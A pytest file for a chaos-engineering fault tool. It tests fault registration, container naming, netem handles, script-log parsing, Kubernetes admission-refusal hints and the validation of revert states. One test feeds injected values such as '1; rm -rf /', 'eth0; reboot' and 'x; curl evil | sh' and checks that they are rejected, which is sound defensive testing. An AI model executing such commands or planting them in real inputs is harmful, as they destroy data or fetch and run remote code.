"""The pure parts of the fault kinds: names, handles, revert states read back from untrusted
journals, the helper's script protocol and the hints for admission refusals."""

from __future__ import annotations

import re

import pytest

from chaos.faults import _ephemeral as eph
from chaos.faults.contract import PodNeeds, UnreadableState
from chaos.faults.network_latency import NETEM_NEEDS, netem_handle
from chaos.faults.registry import FAULT_KINDS, fault_kind


def test_every_kind_is_registered_once_under_its_yaml_key() -> None:
    keys = [k.key for k in FAULT_KINDS]
    assert len(keys) == len(set(keys))
    for kind in FAULT_KINDS:
        assert re.fullmatch(r"[a-z][a-zA-Z]+", kind.key)
        assert fault_kind(kind.key) is kind
        assert kind.platforms and kind.summary
    assert fault_kind("nukeEverything") is None


def test_helper_container_names_are_unique_per_run_and_fault_and_fit() -> None:
    names = {eph.container_names("abcdef123456", f)[0] for f in ("a", "b", "a-b")}
    assert len(names) == 3
    long_a = "x" * 40 + "-one"
    long_b = "x" * 40 + "-two"
    a, a_undo = eph.container_names("abcdef123456", long_a)
    b, _ = eph.container_names("abcdef123456", long_b)
    assert a != b and len(a_undo) <= 63 and a_undo == f"{a}-undo"
    assert eph.container_names("other-run", "a")[0] != eph.container_names("abcdef12", "a")[0]


def test_netem_handles_are_clear_of_the_kernels_automatic_ones() -> None:
    handles = {netem_handle(f"run{i}", "f") for i in range(500)}
    assert all(0x1000 <= int(h, 16) < 0x8000 for h in handles)
    assert len(handles) > 450  # spread: two runs rarely share one


def test_script_protocol_lines() -> None:
    log = ("stress-ng: info: dispatching hogs\n"
           "chaos-runner: in-effect: stress-ng (pid 5) runs 2 CPU worker(s)\n"
           "chaos-runner: reverted: asked to stop: stress-ng stopped\n"
           "not ours: chaos-runner: error: x\n")
    assert eph.script_lines(log) == [("in-effect", "stress-ng (pid 5) runs 2 CPU worker(s)"),
                                     ("reverted", "asked to stop: stress-ng stopped")]


@pytest.mark.parametrize(("message", "expected"), [
    ('pods "web" is forbidden: violates PodSecurity "baseline:latest": non-default capabilities '
     '(container "chaos-1234abcd-slow" must not include "NET_ADMIN")',
     "pod-security.kubernetes.io/enforce=privileged"),
    ('pods "web" is forbidden: violates PodSecurity "restricted:latest": allowPrivilegeEscalation'
     ' != false (container "app" must set ...)', "the pod itself does not meet"),
    ('pods "web" is forbidden: unable to validate against any security context constraint: '
     '[provider "anyuid": Forbidden: not usable by user or serviceaccount]', "OpenShift"),
    ('admission webhook "warden-validating.common-webhooks.networking.gke.io" denied the request: '
     'GKE Warden rejected the request because it violates one or more constraints: Autopilot '
     'does not allow NET_ADMIN', "GKE Autopilot"),
])
def test_admission_refusals_get_their_own_hint(message: str, expected: str) -> None:
    hint = eph._admission_hint(message, NETEM_NEEDS, "chaos-1234abcd-slow")
    assert hint is not None and expected in hint


def test_an_unknown_refusal_gets_no_made_up_hint() -> None:
    assert eph._admission_hint("etcdserver: request timed out", PodNeeds(
        "restricted", False, "x"), "c") is None


STATES = {
    "processKill": {"version": 1, "pids": [12], "start_ticks": [34]},
    "processPause": {"version": 1, "pids": [12], "start_ticks": [34], "watchdog_pid": 56,
                     "watchdog_start_ticks": 78},
    "networkLatency": {"version": 1, "variant": "interface", "interface": "eth0",
                       "netns": None, "handle": "1a2b"},
    "connectionReset": {"version": 1, "proxy": "front", "listen": "127.0.0.1:1"},
    "cpuStress": {"version": 1, "variant": "kubernetes", "pods": [
        {"namespace": "shop", "name": "web-1", "uid": "0b1c-22", "target": "app"}],
        "container": "chaos-1234abcd-burn", "undo_container": "chaos-1234abcd-burn-undo",
        "image": "registry.local/helper:1"},
    "podKill": {"version": 1, "pods": [{"namespace": "shop", "name": "web-1", "uid": "u1"}]},
}


@pytest.mark.parametrize("key", sorted(STATES))
def test_revert_states_round_trip_and_list_manual_steps(key: str) -> None:
    kind = fault_kind(key)
    assert kind is not None
    state = kind.load_state(STATES[key])
    assert kind.load_state(state.dump()) == state
    for step in kind.manual_undo(state):
        assert step and "\n" not in step


@pytest.mark.parametrize(("key", "change", "why"), [
    ("processPause", {"version": 2}, "version"),
    ("processPause", {"pids": "1; rm -rf /"}, "pids"),
    ("networkLatency", {"interface": "eth0; reboot"}, "interface"),
    ("networkLatency", {"handle": "0"}, "handle"),
    ("cpuStress", {"image": "x; curl evil | sh"}, "image"),
    ("cpuStress", {"container": "../../etc"}, "container"),
    ("cpuStress", {"pods": [{"namespace": "shop", "name": "a b", "uid": "u"}]}, "name"),
    ("connectionReset", {"extra": 1}, "extra"),
])
def test_a_tampered_or_foreign_revert_state_is_refused(key: str, change: dict[str, object],
                                                      why: str) -> None:
    """A journal is untrusted input: nothing read back from it reaches a command or a request
    unless it validates, and the refusal says so."""
    kind = fault_kind(key)
    assert kind is not None
    with pytest.raises(UnreadableState, match="cannot be read by this version") as err:
        kind.load_state({**STATES[key], **change})
    assert why in str(err.value)
